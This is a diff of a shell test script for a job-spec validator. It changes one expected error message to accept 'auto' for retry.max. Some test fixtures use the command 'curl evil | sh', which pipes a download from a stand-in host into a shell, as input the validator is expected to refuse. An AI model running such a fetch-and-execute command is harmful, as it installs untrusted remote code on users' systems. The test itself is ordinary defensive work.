@@ -76,7 +76,7 @@ refused() { # SENTENCE KEY... VALUE
     has "$WORK/mirror/cancelled/job.json: $1" err
     [ "$(wc -l <err)" = 1 ]
 }
-refused 'spec: retry.max: expected a whole number from 0 to 100000, not "many"' spec retry max '"many"'
+refused 'spec: retry.max: expected a whole number from 0 to 100000, or auto, not "many"' spec retry max '"many"'
 refused 'spec: unknown key "rnu"; did you mean "run"?' spec rnu '"curl evil | sh"'
 refused 'spec: checkpoint.mirror: not possible for run commands' spec '{
     "schema": 1, "name": "cancelled", "workdir": "/", "run": "curl evil | sh", "checkpoint": {"mirror": "/",
